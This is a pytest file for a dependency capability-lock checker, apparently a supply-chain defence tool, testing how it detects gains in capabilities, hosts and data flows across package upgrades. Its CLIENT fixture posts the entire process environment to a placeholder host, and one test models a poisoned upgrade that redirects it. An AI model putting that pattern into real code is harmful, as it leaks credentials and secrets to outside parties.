"""The capability lock: written, read, and checked against what dependencies do now."""

from __future__ import annotations

from datetime import date

import pytest

from pratique.errors import ConfigError
from pratique.lock import check, dump, load, profile, read_policy
from pratique.lock.file import lock
from pratique.lock.policy import Allow, Policy
from pratique.pipeline import Options, Read, describe, read_artifact

CLIENT = """import os, requests

def send(what):
    requests.post('https://{host}/v1', data=os.environ)
"""


def _profile(files, version="1.0", name="acme"):
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path, data in files.items():
            archive.writestr(zipfile.ZipInfo(path), data)
    data = packed.getvalue()
    read: Read = read_artifact(describe(f"{name}-{version}-py3-none-any.whl", data), data, Options(), draw=True)
    assert read.portrait is not None
    return profile(read.review, read.portrait)


def _client(host="api.acme.invalid", version="1.0", more=""):
    return _profile({"acme/__init__.py": (CLIENT.format(host=host) + more).encode()}, version)


def _checked(new, old=None, policy=None):
    held = lock([old or _client()], "engine")
    return check(held, [new], policy or Policy(), asked=frozenset({new.name}))


def test_a_lock_reads_what_it_wrote():
    made = lock([_client(), _profile({"b/__init__.py": b"import os\nos.system('true')\n"}, name="b")], "engine")

    assert load(dump(made)) == made
    assert [one.name for one in made.package] == ["acme", "b"]


def test_a_lock_says_what_runs_when_and_where_it_goes():
    (package,) = lock([_client()], "engine").package

    assert package.capabilities == {"call": ("env.read", "network.http")}
    assert package.hosts == ("api.acme.invalid",)
    assert package.flows == ("env.read(everything) → network.http → api.acme.invalid",)


def test_an_upgrade_that_does_the_same_gains_nothing():
    assert _checked(_client(version="1.1", more="\ndef twice(x):\n    return x * 2\n")).gains == ()


def test_a_poisoned_upgrade_that_keeps_its_capabilities_and_changes_a_destination_fails():
    old, new = _client(), _client(host="api.acme-metrics.invalid", version="1.1")

    report = _checked(new, old)

    assert lock([old], "").package[0].capabilities == lock([new], "").package[0].capabilities
    assert {(gain.line.kind, gain.line.text) for gain in report.failures} == {
        ("host", "api.acme-metrics.invalid"),
        ("flow", "env.read(everything) → network.http → api.acme-metrics.invalid"),
    }
    assert all(gain.line.path[-1].where.line == 4 for gain in report.failures)


def test_what_runs_earlier_is_a_gain():
    report = _checked(_client(version="1.1", more="\nsend('x')\n"))

    assert ("network.http", "call") in [(gain.line.text, gain.earlier) for gain in report.failures]


def test_quiet_gains_count_only_for_a_strict_policy():
    new = _client(version="1.1", more="\ndef read(path):\n    return open(path).read()\n")

    assert _checked(new).gains == ()
    assert [gain.line.text for gain in _checked(new, policy=Policy(strict=True)).failures] == ["fs.read"]


def test_a_package_that_was_not_there_is_a_gain_itself():
    report = _checked(_profile({"b/__init__.py": b"X = 1\n"}, name="b"))

    assert [gain.line.kind for gain in report.failures] == ["new"]
    assert report.gone == ("acme",)


@pytest.mark.parametrize(
    ("allow", "passes"),
    [
        ({"package": "acme", "gains": "process.*"}, True),
        ({"package": "ac*", "gains": "*", "kind": "capability"}, True),
        ({"package": "acme", "gains": "*", "until": date(2020, 1, 1)}, False),
        ({"package": "other", "gains": "*"}, False),
        ({"package": "acme", "gains": "network.*"}, False),
        ({"package": "acme", "gains": "*", "kind": "host"}, False),
    ],
)
def test_a_policy_allows_by_package_line_kind_and_day(allow, passes):
    new = _client(version="1.1", more="\ndef run():\n    os.system('true')\n")

    report = _checked(new, policy=Policy(allow=(Allow(reason="asked for", **allow),)))

    assert len(report.gains) == 1
    assert (report.failures == ()) is passes


def test_an_allowance_on_call_does_not_cover_import():
    new = _client(version="1.1", more="\nos.system('true')\n")
    allow = {"package": "acme", "gains": "process.*", "reason": "asked for"}

    assert _checked(new, policy=Policy(allow=(Allow(**allow),))).failures
    assert not _checked(new, policy=Policy(allow=(Allow(**allow, trigger="import"),))).failures


def test_a_policy_is_read_from_pyproject_and_needs_reasons(tmp_path):
    path = tmp_path / "pyproject.toml"
    assert read_policy(path) == Policy()

    path.write_text('[[tool.pratique.allow]]\npackage = "acme"\ngains = "*"\nreason = "ours"\nuntil = 2030-01-31\n')
    assert read_policy(path).allow[0].until == date(2030, 1, 31)

    path.write_text('[[tool.pratique.allow]]\npackage = "acme"\ngains = "*"\nreason = " "\n')
    with pytest.raises(ConfigError, match="empty reason"):
        read_policy(path)
    path.write_text('[[tool.pratique.allow]]\npackage = "acme"\nwhy = "x"\n')
    with pytest.raises(ConfigError):
        read_policy(path)


@pytest.mark.parametrize("text", ["", "schema = 'pratique-lock/2'", "schema = 'pratique-lock/1'\nmore = 1", "= ="])
def test_a_broken_lock_is_refused(text):
    if not text:
        assert load(text).package == ()
        return
    with pytest.raises(ConfigError, match=r"pratique\.lock"):
        load(text)
